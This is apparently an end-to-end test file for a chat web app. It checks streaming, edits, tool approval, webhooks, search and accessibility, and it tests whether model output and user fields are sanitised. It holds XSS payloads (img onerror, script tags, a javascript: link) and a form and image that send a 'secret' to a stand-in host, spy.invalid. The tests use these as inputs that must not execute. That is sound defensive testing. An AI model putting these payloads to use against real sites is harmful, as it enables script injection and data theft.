import { type LanguageModel, languageModel, startSkep, waitUntil } from '@skep/testkit';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { APP, useBrowser } from './web/browser.js';
import { checkKeyboard, checkLook } from './web/page-checks.js';

const ATTACK = '<img src=x alt="" onerror="window.hacked=1"><script>window.hacked=1</script>';
/** What a model could try: scripts, addresses that load by themselves, and headings of the page. */
const HOSTILE = [
  `# Title ${ATTACK}`,
  `[click](javascript:window.hacked=1) ![spy](https://spy.invalid/?q=secret)`,
  '<style>body{display:none}</style><form action="https://spy.invalid"><input name="x"></form>',
  '```html\n<script>window.hacked=1</script>\n```',
  '| a | b |\n| - | - |\n| 1 | 2 |',
].join('\n\n');
const WORDS = Array.from({ length: 120 }, (_, n) => `w${n}`).join(' ');

let model: LanguageModel;
const web = useBrowser({}, async () => {
  model = await languageModel();
  const operator = { SKEP_LLM_PROVIDER: 'openai', SKEP_LLM_BASE_URL: `${model.url}/v1`, SKEP_LLM_MODEL: 'usual', SKEP_LLM_TIER: 'free' };
  return startSkep({ env: operator });
});
const button = (name: string | RegExp) => web.page.getByRole('button', { name, exact: true });
const message = () => web.page.getByRole('textbox', { name: 'Your message' });
const answers = () => web.page.getByRole('article', { name: 'Default Agent' });
const ask = (method: string, path: string, body?: unknown) =>
  web.skep.http(method, path, { token: web.bob.access, ...(body !== undefined && { body }) });
/** Once the answer before has ended. */
const say = async (text: string) => {
  await message().fill(text);
  await button('Send').waitFor();
  await message().press('Enter');
};
/** A conversation with an answer. */
async function talk(): Promise<string> {
  await web.open('/chat');
  await say('Bees?');
  await web.page.waitForURL(/\/chat\/[0-9a-f-]{36}/);
  await button('Answer again').waitFor();
  return web.page.url().split('/').at(-1)!;
}

beforeEach(
  () => void Object.assign(model, { asked: [], says: 'Bees are **hairy**.', pauseMs: undefined, calls: undefined, mood: 'answer' }),
);
afterAll(() => (model as LanguageModel | undefined)?.close());

describe('a chat', () => {
  it('begins with a message, shows the answer as it is written, and is in the list', async () => {
    Object.assign(model, { says: WORDS, pauseMs: 25 });
    await web.open('/chat');
    await say('Tell me everything.');
    await web.page.waitForURL(/\/chat\/[0-9a-f-]{36}/);
    await answers().getByText('w3').waitFor();
    expect(await answers().textContent()).not.toContain('w119');
    expect(await web.page.evaluate('document.activeElement.getAttribute("aria-label")')).toBe('Your message');
    await answers().getByText('w119').waitFor();
    await button('Copy the answer').waitFor();
    await answers().getByText('usual · 15 tokens').waitFor();
    await web.page.getByRole('region', { name: 'Conversations' }).getByText('Tell me everything.').waitFor();
    expect(await web.page.locator('p[role=status].sr-only').textContent()).toContain('w1 w2');
    expect(web.consoleErrors).toEqual([]);
  });

  it('renders what a hostile model says as text, and loads nothing of it', async () => {
    const asked: string[] = [];
    web.page.on('request', (request) => asked.push(request.url()));
    Object.assign(model, { says: HOSTILE });
    const id = await talk();
    await answers().getByRole('heading', { level: 3 }).first().waitFor();
    const answer = answers().first();
    expect(await answer.textContent()).toContain('<img src=x');
    expect(await answer.locator('img, script, style, form, iframe, [onerror]').count()).toBe(0);
    expect(await answer.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href')))).toEqual([
      null,
      'https://spy.invalid/?q=secret',
    ]);
    expect(asked.filter((url) => url.includes('spy.invalid'))).toEqual([]);
    await checkLook(web, `/chat/${id}`);
  });

  it('goes on after the page is loaded again in the middle of the answer, and is shown on another device', async () => {
    Object.assign(model, { says: WORDS, pauseMs: 60 });
    await web.open('/chat');
    await say('Slowly, please.');
    await web.page.waitForURL(/\/chat\/[0-9a-f-]{36}/);
    await answers().getByText('w3').waitFor();
    const other = await web.page.context().newPage();
    await other.goto(web.page.url());
    await web.page.reload();
    for (const page of [web.page, other]) await page.getByRole('button', { name: 'Stop' }).waitFor();
    for (const page of [web.page, other]) {
      await page.getByText('w119').first().waitFor();
      await page.getByRole('button', { name: 'Answer again' }).waitFor();
      expect(await page.getByText('w119').count()).toBeLessThanOrEqual(2);
    }
    expect(await ask('GET', `/api/conversations/${web.page.url().split('/').at(-1)}/messages`).then(({ rows }) => rows.length)).toBe(2);
  });

  it('is stopped, and keeps what was said', async () => {
    Object.assign(model, { says: WORDS, pauseMs: 60 });
    await web.open('/chat');
    await say('Stop me.');
    await answers().getByText('w3').waitFor();
    await button('Stop').click();
    await answers()
      .getByText(/Stopped/)
      .waitFor();
    expect(await answers().textContent()).toContain('w1');
    expect(await answers().textContent()).not.toContain('w119');
    await button('Send').waitFor();
  });

  it('is edited and answered again, and leads back to each version', async () => {
    await talk();
    model.says = 'Wasps are smooth.';
    await button('Edit this message').click();
    await web.page.getByRole('textbox', { name: 'Edit this message' }).fill('Wasps?');
    await web.page.getByRole('textbox', { name: 'Edit this message' }).locator('..').getByRole('button', { name: 'Send' }).click();
    await answers().getByText('Wasps are smooth.').waitFor();
    model.says = 'Wasps sting.';
    await button('Answer again').click();
    await answers().getByText('Wasps sting.').waitFor();
    await web.page.getByRole('group', { name: 'Versions' }).getByText('2 of 2').nth(1).waitFor();
    await button('Previous version').nth(1).click();
    await answers().getByText('Wasps are smooth.').waitFor();
    await button('Previous version').first().click();
    await answers().getByText('Bees are').waitFor();
    expect(await answers().locator('strong').textContent()).toBe('hairy');
  });

  it('shows a tool with its arguments, result and time, now and after it was loaded again', async () => {
    Object.assign(model, { calls: { name: `${APP}__save_note`, args: { text: ATTACK } }, says: 'Saved.' });
    const id = await talk();
    for (const again of [false, true]) {
      if (again) await web.open(`/chat/${id}`);
      const tool = answers().locator('details', { hasText: 'Save note' });
      await tool.getByText(/Done · \d+ ms/).waitFor();
      await tool.locator('summary').click();
      await tool.getByText(ATTACK, { exact: true }).waitFor();
      await tool.getByText('Result').waitFor();
    }
    expect(await web.page.evaluate('window.hacked')).toBeUndefined();
  });

  it('asks before a tool that follows content of others, which is allowed, denied, or always allowed', async () => {
    const id = await talk();
    const created = await ask('POST', '/api/webhooks', {
      ...{ name: 'Shop', secret: '', preset: 'generic', target_conversation_id: id, trigger_agent: true },
    });
    const slug = String(created.json['slug']);
    await waitUntil(
      'the delivery',
      async () => (await web.skep.http('POST', `/api/webhooks/receive/${slug}`, { body: { order: 1 } })).status === 200,
    );
    await waitUntil('the answer', async () => (await ask('GET', `/api/conversations/${id}/messages`)).rows.length === 4);
    Object.assign(model, { calls: { name: `${APP}__save_note`, args: { text: 'from a stranger' } }, says: 'Done.' });
    await web.open(`/chat/${id}`);
    await say('Save it.');
    await web.page.getByText('waits for your decision').first().waitFor();
    await checkNoViolations();
    // Another device shows the same question, and the answer there counts here.
    await web.page.reload();
    await button('Deny').click();
    await web.page.getByText('Failed').waitFor();
    await answers().getByText('Done.').first().waitFor();
    await say('Save it now.');
    await button('Always allow').click();
    await answers().getByText('Done.').nth(1).waitFor();
    expect((await ask('GET', '/api/agents/default')).json).toMatchObject({ approved_tools: [`${APP}__save_note`] });
    await say('And once more.');
    await answers().getByText('Done.').nth(2).waitFor();
    expect(await button('Allow').count()).toBe(0);
  });

  it('says what to do when an answer fails, and tries again', async () => {
    model.mood = 500;
    await web.open('/chat');
    await say('Anyone there?');
    await web.page.getByRole('alert').getByText('did not answer').waitFor({ timeout: 60_000 });
    model.mood = 'answer';
    await button('Try again').click();
    await answers().getByText('Bees are').waitFor();
  }, 120_000);

  it('is found, renamed and deleted', async () => {
    const id = await talk();
    await button('Rename').click();
    await web.page.getByLabel('Title').fill(`Hives ${ATTACK}`);
    await button('Save').click();
    await web.page.getByRole('heading', { level: 1, name: /Hives/ }).waitFor();
    await web.open('/chat');
    await web.page.getByRole('searchbox', { name: 'Search conversations' }).fill('Hives');
    await waitUntil('one result', async () => (await web.page.locator('main li a').count()) === 1);
    await web.page.locator('main li a').click();
    await button('Delete').click();
    await web.page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click();
    await web.page.getByRole('heading', { name: 'Chat' }).waitFor();
    expect((await ask('GET', `/api/conversations/${id}`)).status).toBe(404);
    expect(await web.page.evaluate('window.hacked')).toBeUndefined();
  });

  it('follows its end until its reader scrolls up', async () => {
    const long = Array.from({ length: 80 }, (_, n) => `line ${n}\n\n`).join('');
    Object.assign(model, { says: long, pauseMs: 15 });
    await web.open('/chat');
    await say('A long one.');
    await answers().getByText('line 45').waitFor();
    const fromEnd = () => web.page.evaluate<number>('document.documentElement.scrollHeight - innerHeight - scrollY');
    expect(await fromEnd()).toBeLessThan(200);
    await web.page.mouse.move(400, 300);
    await web.page.mouse.wheel(0, -600);
    await button('To the end').waitFor();
    await answers().getByText('line 79').waitFor();
    expect(await fromEnd()).toBeGreaterThan(300);
    await button('To the end').dispatchEvent('click');
    await waitUntil('the end', async () => (await fromEnd()) < 100);
  });
});

/** Accessible as it is, without loading it again. */
async function checkNoViolations(): Promise<void> {
  const { default: axe } = await import('axe-core');
  await web.page.evaluate(axe.source);
  const found = await web.page.evaluate(async () => (await axe.run()).violations);
  expect(found.map(({ id, nodes }) => `${id}: ${nodes[0]?.html}`)).toEqual([]);
}

describe('a page of agents', () => {
  beforeAll(async () => {
    await ask('POST', '/api/agents', { id: 'clerk', name: `Clerk ${ATTACK}`.slice(0, 200), type: 'x', system_prompt: ATTACK });
    await ask('POST', '/api/memory/add', { content: ATTACK, source: ATTACK });
    await ask('POST', '/api/cron/jobs', { name: ATTACK, task: ATTACK, schedule_kind: 'every', schedule_value: '1h' });
    await ask('POST', '/api/webhooks', { name: ATTACK });
  });

  const PAGES = [
    '/chat',
    '/agents',
    '/agents/new',
    '/agents/clerk',
    '/memory',
    '/skills',
    '/channels',
    '/channels/slack',
    '/devices',
    '/jobs',
  ].concat([...['/webhooks', '/models', '/usage']]);
  it.each(PAGES)('is accessible in light and dark, fits a narrow screen, and runs no script of what it shows: %s', (path) =>
    checkLook(web, path),
  );
  it.each(PAGES)('is walked with the Tab key, with a visible focus: %s', (path) => checkKeyboard(web, path));
});
